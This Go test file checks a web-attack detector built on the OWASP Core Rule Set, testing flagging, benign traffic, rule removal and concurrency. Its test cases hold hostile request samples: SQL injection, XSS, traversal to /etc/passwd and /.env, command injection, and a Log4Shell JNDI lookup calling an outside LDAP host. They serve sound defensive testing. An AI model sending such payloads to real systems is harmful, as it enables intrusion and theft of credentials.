package crs

import (
	"slices"
	"sync"
	"testing"

	"github.com/garda-id/garda/internal/event"
)

// One detector per paranoia level, built once for the package's tests.
var (
	detectorsOnce sync.Once
	detectors     [5]*Detector
	detectorsErr  error
)

func testDetector(t testing.TB, pl int) *Detector {
	t.Helper()
	detectorsOnce.Do(func() {
		for l := 1; l <= 4; l++ {
			if detectors[l], detectorsErr = New(Options{ParanoiaLevel: l}); detectorsErr != nil {
				return
			}
		}
	})
	if detectorsErr != nil {
		t.Fatal(detectorsErr)
	}
	if pl == 0 {
		pl = DefaultParanoiaLevel
	}
	return detectors[pl]
}

func TestNewRejectsBadOptions(t *testing.T) {
	for _, o := range []Options{{ParanoiaLevel: 5}, {ParanoiaLevel: -1}, {Threshold: -3}, {RemoveRules: []int{12}}} {
		if _, err := New(o); err == nil {
			t.Errorf("New(%+v): no error", o)
		}
	}
	d := testDetector(t, 0)
	if d.ParanoiaLevel() != DefaultParanoiaLevel || d.Threshold() != DefaultThreshold {
		t.Errorf("defaults: PL %d threshold %d", d.ParanoiaLevel(), d.Threshold())
	}
}

func TestInspect(t *testing.T) {
	d := testDetector(t, 0)
	for _, tc := range []struct {
		name   string
		ev     *event.Event
		rule   int
		class  Class
		attack bool
	}{
		{"sqli", request("GET", "/cari?id=1%27%20OR%20%271%27%3D%271", uaChrome, "-"), 942100, SQLi, true},
		{"xss", request("GET", "/berita?q=%3Cscript%3Ealert(1)%3C/script%3E", uaChrome, "-"), 941100, XSS, true},
		{"traversal", request("GET", "/cari?file=../../../../etc/passwd", uaChrome, "-"), 930100, LFI, true},
		{"rce", request("GET", "/cari?cmd=;cat%20/etc/passwd", uaChrome, "-"), 932160, RCE, true},
		{"log4shell", request("GET", "/api?u=${jndi:ldap://198.51.100.9/a}", uaChrome, "-"), 944150, Java, true},
		{"restricted file", request("GET", "/.env", uaChrome, "-"), 930130, LFI, true},
		{"scanner", request("GET", "/", "sqlmap/1.7.2#stable (https://sqlmap.org)", "-"), 913100, Scanner, true},
		{"method", request("TRACK", "/", uaChrome, "-"), 911100, Protocol, true},
		{"benign", request("GET", "/berita/123/judul-berita", uaChrome, "-"), 0, 0, false},
	} {
		r := d.Inspect(tc.ev)
		if r.Attack != tc.attack {
			t.Errorf("%s: attack %v (score %d, rules %v), want %v", tc.name, r.Attack, r.Score, r.RuleIDs, tc.attack)
		}
		if !tc.attack {
			if len(r.RuleIDs) > 0 || r.Classes != 0 {
				t.Errorf("%s: rules %v classes %v, want none", tc.name, r.RuleIDs, r.Classes)
			}
			continue
		}
		if !slices.Contains(r.RuleIDs, tc.rule) {
			t.Errorf("%s: rules %v, want %d among them", tc.name, r.RuleIDs, tc.rule)
		}
		if !r.Classes.Has(tc.class) {
			t.Errorf("%s: classes %v, want %v", tc.name, r.Classes, tc.class)
		}
		if !slices.IsSorted(r.RuleIDs) {
			t.Errorf("%s: rules %v not sorted", tc.name, r.RuleIDs)
		}
	}
}

// The Host an access log may lack: without url.domain the detector sends
// its default, so 920280 (missing Host) does not fire on every line.
func TestInspectHost(t *testing.T) {
	d := testDetector(t, 0)
	ev := request("GET", "/", uaChrome, "-")
	if r := d.Inspect(ev); r.Score != 0 {
		t.Errorf("no url.domain: score %d rules %v, want 0", r.Score, r.RuleIDs)
	}
	ev.Set(event.URLDomain, "203.0.113.5")
	if r := d.Inspect(ev); !slices.Contains(r.RuleIDs, 920350) || r.Attack {
		t.Errorf("numeric Host: rules %v attack %v, want 920350 and no attack", r.RuleIDs, r.Attack)
	}
}

// The benign sample: nothing flagged, through Coraza alone or with the
// prefilter in front, at the default level.
func TestBenignNotFlagged(t *testing.T) {
	d := testDetector(t, 0)
	lines := append(benignSample(t), plainOrdinary(t)...)
	for _, l := range lines {
		if r := d.Inspect(l.ev); r.Attack || r.Score > 0 {
			t.Errorf("benign request scored %d (rules %v): %s", r.Score, r.RuleIDs, l.text)
		}
		if r := d.Detect(l.ev); r.Attack {
			t.Errorf("benign request flagged: %s", l.text)
		}
	}
	t.Logf("%d benign requests, none flagged at paranoia level %d", len(lines), d.ParanoiaLevel())
}

// benignSample is genlog's and the simulator's benign requests.
func benignSample(t testing.TB) []logLine {
	return append(readLog(t, "testdata/benign.log"), readLog(t, "testdata/simulator-benign.log")...)
}

func plainOrdinary(t testing.TB) []logLine {
	var out []logLine
	for _, l := range readLog(t, "testdata/ordinary.log") {
		if l.group == "plain" {
			out = append(out, l)
		}
	}
	return out
}

// genlog's attackers: every payload is flagged through the prefilter,
// with the class genlog gave it.
func TestGenlogAttacks(t *testing.T) {
	d := testDetector(t, 0)
	want := map[string]Class{"sqli": SQLi, "xss": XSS, "traversal": LFI, "rce": RCE, "badua": Scanner}
	for _, l := range readLog(t, "testdata/attacks.log") {
		r := d.Detect(l.ev)
		class, payload := want[l.group]
		switch {
		case payload && !r.Attack:
			t.Errorf("%s not flagged (score %d, rules %v): %s", l.group, r.Score, r.RuleIDs, l.text)
		case payload && !r.Classes.Has(class):
			t.Errorf("%s flagged as %v: %s", l.group, r.Classes, l.text)
		case !payload:
			t.Logf("%s: flagged %v, classes %v, rules %v: %s", l.group, r.Attack, r.Classes, r.RuleIDs, l.ev.Get(event.URLOriginal))
		}
	}
}

func TestInspectConcurrent(t *testing.T) {
	d := testDetector(t, 0)
	evs := []*event.Event{
		request("GET", "/cari?id=1%27%20OR%20%271%27%3D%271", uaChrome, "-"),
		request("GET", "/berita/123/judul-berita", uaChrome, "-"),
		request("GET", "/", "nuclei", "-"),
	}
	want := make([]Result, len(evs))
	for i, ev := range evs {
		want[i] = d.Detect(ev)
	}
	var wg sync.WaitGroup
	for g := range 8 {
		wg.Go(func() {
			for i := range 20 {
				k := (g + i) % len(evs)
				if got := d.Detect(evs[k]); got.Attack != want[k].Attack || got.Score != want[k].Score {
					t.Errorf("concurrent Detect %d: %+v, want %+v", k, got, want[k])
				}
			}
		})
	}
	wg.Wait()
}

// RemoveRules drops the rules behind the level-2 false positives on
// search phrases and comma lists.
func TestRemoveRules(t *testing.T) {
	d, err := New(Options{RemoveRules: []int{932236, 942200}})
	if err != nil {
		t.Fatal(err)
	}
	for _, target := range []string{"/cari?q=find+tps+terdekat", "/hasil?prov=31,32,33"} {
		ev := request("GET", target, uaChrome, "-")
		if r := testDetector(t, 0).Inspect(ev); !r.Attack {
			t.Errorf("%s: not flagged with every rule; the test needs a new example", target)
		}
		if r := d.Inspect(ev); r.Attack {
			t.Errorf("%s: flagged (rules %v) with 932236 and 942200 removed", target, r.RuleIDs)
		}
	}
	if r := d.Inspect(request("GET", "/cari?id=1%27%20OR%20%271%27%3D%271", uaChrome, "-")); !r.Attack {
		t.Error("SQL injection not flagged with 932236 and 942200 removed")
	}
}

func TestClassOfRule(t *testing.T) {
	for id, want := range map[int]Class{942100: SQLi, 941100: XSS, 932160: RCE, 930120: LFI, 931130: RFI,
		933150: PHP, 944150: Java, 943120: SessionFixation, 920350: Protocol, 921110: Protocol,
		911100: Protocol, 913100: Scanner, 934100: Generic} {
		if got, ok := ClassOfRule(id); !ok || got != want {
			t.Errorf("ClassOfRule(%d) = %v, %v; want %v", id, got, ok, want)
		}
	}
	if _, ok := ClassOfRule(949110); ok {
		t.Error("ClassOfRule(949110): a scoring rule has no class")
	}
	s := SQLi.Set() | Scanner.Set()
	if s.String() != "sqli,scanner" {
		t.Errorf("ClassSet.String() = %q", s.String())
	}
}

func BenchmarkInspectAttack(b *testing.B) {
	d := testDetector(b, 0)
	ev := request("GET", "/cari?id=1%27%20OR%20%271%27%3D%271", uaChrome, "-")
	b.ReportAllocs()
	for b.Loop() {
		if !d.Inspect(ev).Attack {
			b.Fatal("not flagged")
		}
	}
}

// BenchmarkInspectBenign is what a request costs when the prefilter is
// bypassed: the whole rule set on an ordinary request.
func BenchmarkInspectBenign(b *testing.B) {
	d := testDetector(b, 0)
	ev := request("GET", "/berita/123/judul-berita", uaChrome, "-")
	b.ReportAllocs()
	for b.Loop() {
		if d.Inspect(ev).Attack {
			b.Fatal("flagged")
		}
	}
}

// BenchmarkDetectBenign is the pipeline's cost on genlog's benign mix.
func BenchmarkDetectBenign(b *testing.B) {
	d := testDetector(b, 0)
	lines := benignSample(b)
	b.ReportAllocs()
	i := 0
	for b.Loop() {
		if d.Detect(lines[i].ev).Attack {
			b.Fatal("flagged")
		}
		if i++; i == len(lines) {
			i = 0
		}
	}
}

// A WeakAlone rule that matches alone is evidence below the threshold,
// not an attack; with another rule it counts; with WeakAlone empty the
// score is CRS's plain sum again (one critical rule is an attack).
func TestWeakAlone(t *testing.T) {
	d := testDetector(t, 0)
	plain, err := New(Options{WeakAlone: []int{}})
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		target string
		rule   int
	}{
		{"/daftar?pwd=Qwerty%24123", 932240},
		{"/cari?q=syarat+menang+pilpres+%3E+50%25", 942131},
		{"/cari?q=C%23+developer", 942440},
	} {
		ev := request("GET", tc.target, uaChrome, "-")
		r := d.Inspect(ev)
		if r.Attack || !r.BelowThreshold() || !slices.Contains(r.RuleIDs, tc.rule) || r.Score != 0 {
			t.Errorf("%s: attack %v below %v score %d rules %v; want %d below the threshold, score 0", tc.target, r.Attack, r.BelowThreshold(), r.Score, r.RuleIDs, tc.rule)
		}
		if r := plain.Inspect(ev); !r.Attack || r.Score != 5 {
			t.Errorf("%s without WeakAlone: attack %v score %d, want an attack scoring 5", tc.target, r.Attack, r.Score)
		}
	}
	// With other rules, a weak rule adds its score.
	r := d.Inspect(request("GET", "/cari?cmd=%3Becho%20%24%28id%29%3Bcat%20/etc/passwd", uaChrome, "-"))
	if !r.Attack || !slices.Contains(r.RuleIDs, 932240) && !slices.Contains(r.RuleIDs, 932200) {
		t.Errorf("command injection: attack %v rules %v", r.Attack, r.RuleIDs)
	}
	if _, err := New(Options{WeakAlone: []int{42}}); err == nil {
		t.Error("a WeakAlone id that is no CRS rule: no error")
	}
}
